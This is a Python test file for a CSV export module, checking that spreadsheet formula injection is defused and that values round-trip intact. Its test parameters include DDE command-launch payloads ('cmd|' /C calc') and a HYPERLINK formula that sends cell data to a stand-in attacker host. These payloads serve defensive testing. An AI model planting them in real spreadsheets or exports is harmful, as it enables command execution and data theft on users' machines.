"""CSV files: what a spreadsheet would execute is defused, and everything else can be read back."""

import csv
import io
from collections.abc import Sequence
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entities.exports.csv_file import FORMULA_STARTS, defuse, format_value, write_csv
from entities.exports.export_values import Value
from tests.support.spreadsheets import read_csv

pytestmark = pytest.mark.unit

# Without lone surrogates, which the database does not have either.
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


def write(*rows: Sequence[Value], headings: tuple[str, ...] = ("a",)) -> bytes:
    file = io.BytesIO()
    assert write_csv(file, headings, iter(rows)) == len(rows)
    return file.getvalue()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+A1",
        "-A1",
        "+",
        "-",
        "=",
        "\uff1d1+1",
    ],
)
def test_a_formula_is_defused(text: str) -> None:
    assert defuse(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "+971501234567",
        "+49 215 725-4293",
        "+1 (555) 010-9999",
        "+(49) 30 1234",
        "-5",
        "-1234.50",
        "+5",
        "a=b",
        "1+1",
        "",
    ],
)
def test_a_number_a_phone_number_and_other_text_stay(text: str) -> None:
    assert defuse(text) == text


@given(TEXTS)
def test_no_cell_begins_as_a_formula_unless_it_is_all_digits(text: str) -> None:
    cell = format_value(text)
    assert not cell.startswith(FORMULA_STARTS) or not any(character.isalpha() for character in cell)
    assert cell.removeprefix("'") == text.removeprefix("'")


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
def test_what_is_written_is_read_back(rows: list[list[str]]) -> None:
    content = write(*rows, headings=("a", "b"))
    assert read_csv(content) == [["a", "b"], *([format_value(cell) for cell in row] for row in rows)]


def test_a_file_begins_with_a_byte_order_mark_and_is_utf_8() -> None:
    assert write(["Зоя"]) == b"\xef\xbb\xbfa\r\n\xd0\x97\xd0\xbe\xd1\x8f\r\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (Decimal("1234567.5000"), "1234567.50"),
        (Decimal("-0.1250"), "-0.125"),
        (Decimal("0E-4"), "0.00"),
        (7, "7"),
        (date(2025, 1, 15), "2025-01-15"),
        (datetime(2025, 1, 15, 10, 30), "2025-01-15 10:30:00"),  # noqa: DTZ001 - the zone is in the heading
    ],
)
def test_a_value_is_written_so_that_programs_can_read_it(value: Value, text: str) -> None:
    assert format_value(value) == text


def test_a_line_break_and_a_quote_stay_inside_their_cell() -> None:
    content = write(['a\r\nb,"c"'])
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1] == ['a\r\nb,"c"']


def test_the_file_stays_open_for_its_reader() -> None:
    file = io.BytesIO()
    write_csv(file, ["a"], iter([]))
    assert not file.closed
